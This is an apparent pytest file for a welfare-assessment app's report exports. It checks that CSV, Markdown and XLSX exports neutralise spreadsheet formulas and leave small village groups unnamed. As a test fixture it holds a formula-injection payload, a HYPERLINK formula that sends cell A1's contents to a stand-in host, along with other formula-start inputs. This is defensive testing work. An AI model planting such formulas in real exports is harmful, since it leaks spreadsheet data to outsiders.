"""#20 H1: exported reports never carry a spreadsheet formula, and small groups stay unnamed.

A village name is free text an officer (or the front desk's CSV) types; a report of areas
prints it. Text starting with `=`, `+`, `-`, `@`, tab or CR leaves a CSV or Markdown export
with a leading apostrophe (the OWASP rule) and an XLSX export as a string cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from ews.reports.model import Column, Params, Report, Table, neutral, to_csv, to_markdown

FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'
SMALL = "Kampung Kecil"  # a desa with 3 applicants: never named outside the office
SHOWN = FORMULA.casefold() + " (not in the list)"  # free text is grouped case-folded


@pytest.fixture
def villages(client, accounts, payload):
    """12 interviews from the formula village, 3 from a small one (today, office PMK)."""
    for i in range(15):
        village = FORMULA if i < 12 else SMALL
        resp = client.post("/api/v1/assessments", headers=accounts["officer"].headers,
                           json=payload(f"PMK-H1-{i}", domicile_village=village))
        assert resp.status_code == 201, resp.get_json()
    today = dt.date.today()
    return {"from": (today - dt.timedelta(days=7)).isoformat(),
            "to": (today + dt.timedelta(days=2)).isoformat()}


def _export(client, accounts, period, fmt):
    got = client.get("/api/v1/reports/areas", headers=accounts["analyst"].headers,
                     query_string=period | {"format": fmt})
    assert got.status_code == 200, got.get_data(as_text=True)[:300]
    return got


def test_csv_export_neutralises_formulas_and_names_no_small_group(client, accounts, villages):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(_export(client, accounts, villages, "csv").data)) as zf:
        text = "".join(zf.read(name).decode() for name in zf.namelist())  # one CSV a table
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + SHOWN in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert SMALL not in text


def test_markdown_export_neutralises_formulas(client, accounts, villages):
    text = _export(client, accounts, villages, "md").get_data(as_text=True)
    assert "| '" + SHOWN.replace("|", "\\|") + " |" in text
    assert "| =" not in text and SMALL not in text


def test_xlsx_export_stores_text_never_a_formula(client, accounts, villages):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(_export(client, accounts, villages, "xlsx").data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == SHOWN] == ["s"]
    assert not [c for c in cells if c.data_type == "f"]
    assert SMALL not in {c.value for c in cells}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised_in_csv_and_markdown(value):
    table = Table("t", "T", (Column("name", "Name", "key"),), ((value,), (-1,), ("ok",)))
    report = Report("x", "X", Params(dt.date(2026, 1, 1), dt.date(2026, 2, 1)), (table,))
    rows = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    assert rows[1] == ["'" + value.replace("\r", " ")]  # a CR would split the row
    assert rows[2] == ["-1"]  # numbers stay numbers
    assert neutral(value) == "'" + value and neutral("ok") == "ok"
    assert "| '" in to_markdown(report)


def test_place_names_are_trimmed_and_their_spaces_collapsed(client, accounts, payload, db):
    from ews.store.models import Assessment

    resp = client.post("/api/v1/assessments", headers=accounts["officer"].headers,
                       json=payload("PMK-H1-SP", domicile_village="  Desa \u00a0 Bunder  ",
                                    domicile_district="Pademawu   Barat"))
    assert resp.status_code == 201, resp.get_json()
    row = db.get(Assessment, resp.get_json()["id"])
    assert row.answers["domicile_village"] == "Desa Bunder"
    assert row.answers["domicile_district"] == "Pademawu Barat"
